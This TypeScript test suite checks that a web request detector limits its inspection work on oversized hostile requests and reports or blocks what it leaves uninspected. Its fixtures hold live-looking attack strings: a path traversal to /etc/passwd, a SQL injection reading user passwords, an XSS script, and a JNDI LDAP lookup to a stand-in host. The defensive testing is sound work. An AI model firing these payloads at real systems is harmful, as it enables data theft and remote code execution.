// Requests that are meant to be slow: the work on them is bounded, and what was not inspected is said.
import fc from 'fast-check'
import { DEFAULT_WORK_UNITS, WorkBudget } from '@zonereeve/seclang'
import { describe, expect, test } from 'vitest'
import { MANAGED_RULES } from './catalogue/registry.ts'
import { detect, uninspectedField } from './detection.ts'
import { createDetector } from './detector.ts'
import { HOSTILE_REQUESTS, type HostileRequest } from './hostile-requests.cases.ts'
import { inspectSample } from './request-sample.cases.ts'

const RULES = MANAGED_RULES.filter(({ detection }) => detection.kind !== 'incomplete')
const LIMIT_RULE = MANAGED_RULES.find(({ detection }) => detection.kind === 'incomplete')
const detector = createDetector(RULES)

const inspectHostile = ({ target, headers, body }: HostileRequest) =>
  inspectSample({ method: body === '' ? 'GET' : 'POST', target, headers, ...(body !== '' && { body }) })

/** Beyond a limit of sizes or counts, so that they are never inspected whole. */
const CUT: Readonly<Record<string, string>> = {
  '15,000 arguments': 'http.request.uri.args',
  'a thousand values in base64': 'http.request.uri.args',
  '15,000 arguments without values': 'http.request.uri.args',
  '5,000 arguments of attack words': 'http.request.uri.args',
  'JSON of many pairs': 'http.request.body.raw',
  'JSON that is nested deeply': 'http.request.body.raw',
  'XML of many attributes': 'http.request.body.raw',
  '4,000 cookies': 'http.request.headers',
}
/** Those on which all work is spent. */
const SPENT = new Set([
  'one value of attacks',
  '1,000 parts',
  '1,000 arguments of 120 bytes of attacks',
  'JSON of 1,000 attacks',
  'a body of no type',
  'values encoded three times',
])
/** The same without a body. */
const SPENT_ON_HEADERS = '500 headers of attacks'

describe('the work on a request', () => {
  test.each(HOSTILE_REQUESTS.map((request) => [request.name, request] as const))('%s', (name, request) => {
    const inspected = inspectHostile(request)
    expect(inspected.cutField()).toBe(CUT[name])
    expect(detector.unitsOfAll(inspected)).toBeLessThanOrEqual(DEFAULT_WORK_UNITS + MAX_UNCHECKED)
    expect(detector.isWhole(inspected)).toBe(!SPENT.has(name) && name !== SPENT_ON_HEADERS)
    // The same request always gets the same result.
    const again = inspectHostile(request)
    expect(detector.unitsOfAll(again)).toBe(detector.unitsOfAll(inspected))
  })

  test('is little for an ordinary request', () => {
    const body = JSON.stringify({
      name: "O'Brien",
      note: 'Please ring twice & leave it at the door; thanks! '.repeat(40),
    })
    const headers = { 'content-type': 'application/json' }
    const inspected = inspectSample({ method: 'POST', target: '/orders?page=2', headers, body })
    expect(detector.unitsOfAll(inspected)).toBeLessThan(DEFAULT_WORK_UNITS / 20)
  })
})

/** What is spent without asking before: on the patterns that have a word in a string. */
const MAX_UNCHECKED = 20_000

test('with less work fewer rules match, and none that does not match with more', () => {
  const [attack] = HOSTILE_REQUESTS.filter(({ name }) => name === 'a target of attacks')
  if (attack === undefined) throw new Error('no such request')
  const inspected = inspectHostile(attack)
  const idsFound = (units: number): readonly string[] => {
    const limited = createDetector(RULES, () => new WorkBudget(units))
    return RULES.filter((rule) => limited.detect(rule, inspected) !== null).map(({ id }) => id)
  }
  const all = idsFound(DEFAULT_WORK_UNITS)
  expect(all.length).toBeGreaterThan(20)
  const ofExpressions = idsFound(0)
  expect(ofExpressions.length).toBeLessThan(5)
  for (const units of [1_000, 100_000, 1_000_000]) {
    const found = idsFound(units)
    expect(found.filter((id) => !all.includes(id))).toEqual([])
    expect(found.length).toBeLessThanOrEqual(all.length)
  }
})

/** Ordinary places, with what the rules find in them. */
const ATTACKED = {
  target:
    "/a/../../etc/passwd?id=1'%20union%20select%20password%20from%20users--&q=%3Cscript%3Ealert(1)%3C/script%3E",
  headers: {
    'user-agent': '${jndi:ldap://192.0.2.1/a}',
    referer: 'https://example.com/?q=<script>alert(1)</script>',
  },
}

test.each(
  HOSTILE_REQUESTS.filter(({ name }) => SPENT.has(name)).map((request) => [request.name, request] as const),
)('%s as the body: target and headers are inspected all the same', (_, { headers, body }) => {
  const inBody = /^http\.request\.body/
  const foundIn = (request: ReturnType<typeof inspectSample>): ReadonlyMap<string, string> =>
    new Map(
      RULES.flatMap((rule) => {
        const found = detector.detect(rule, request)
        return found === null ? [] : [[rule.id, found.field]]
      }),
    )
  const alone = foundIn(inspectSample({ method: 'POST', ...ATTACKED }))
  expect(alone.size).toBeGreaterThan(20)
  const inspected = inspectSample({
    method: 'POST',
    target: ATTACKED.target,
    headers: { ...headers, ...ATTACKED.headers },
    body,
  })
  expect(detector.isWhole(inspected)).toBe(false)
  expect(detector.unitsOfAll(inspected)).toBeLessThanOrEqual(DEFAULT_WORK_UNITS + MAX_UNCHECKED)
  const together = foundIn(inspected)
  for (const field of alone.values()) expect(inBody.test(field)).toBe(false)
  expect([...alone.keys()].filter((id) => !together.has(id))).toEqual([])
})

test('any values stay within the limit of work', () => {
  const units = 40_000
  const limited = createDetector(RULES, () => new WorkBudget(units))
  const seen = new Set<boolean>()
  const fragment = fc.constantFrom(
    "'",
    '"',
    '<',
    '%3C',
    '&#60;',
    String.raw`\x3c`,
    ' ',
    '/**/',
    '../',
    ';',
    '$(',
    'select ',
    'union ',
    'or ',
    'script',
    'A',
    '\u00ff',
  )
  const value = fc.array(fragment, { maxLength: 200 }).map((fragments) => fragments.join(''))
  fc.assert(
    fc.property(fc.array(value, { minLength: 1, maxLength: 60 }), (values) => {
      const body = JSON.stringify(values)
      const inspected = inspectSample({
        method: 'POST',
        target: '/',
        headers: { 'content-type': 'application/json' },
        body,
      })
      const spent = limited.unitsOfAll(inspected)
      expect(spent).toBeLessThanOrEqual(units + MAX_UNCHECKED)
      const isWhole = limited.isWhole(inspected)
      if (isWhole) expect(spent).toBeLessThanOrEqual(units)
      else expect(spent).toBeGreaterThan((units * 7) / 8)
      seen.add(isWhole)
    }),
    { numRuns: 60 },
  )
  expect(seen.size).toBe(2)
})

test('a request on which the work is spent is reported, and can be blocked', () => {
  if (LIMIT_RULE === undefined) throw new Error('the rule is in the catalogue')
  const spent = HOSTILE_REQUESTS.find(({ name }) => name === 'JSON of 1,000 attacks')
  const whole = HOSTILE_REQUESTS.find(({ name }) => name === 'one value of quotes')
  if (spent === undefined || whole === undefined) throw new Error('no such request')
  const inspected = inspectHostile(spent)
  expect(uninspectedField(inspected)).toBeUndefined()
  expect(detect(LIMIT_RULE, inspected)).toEqual({
    field: 'http.request.body.raw',
    excerpt: '',
    isIncomplete: true,
  })
  expect(uninspectedField(inspected)).toBe('http.request.body.raw')
  // As with the result of the check of credentials.
  expect(uninspectedField({ ...inspected })).toBe('http.request.body.raw')
  expect(detect(LIMIT_RULE, inspectHostile(whole))).toBeNull()
})
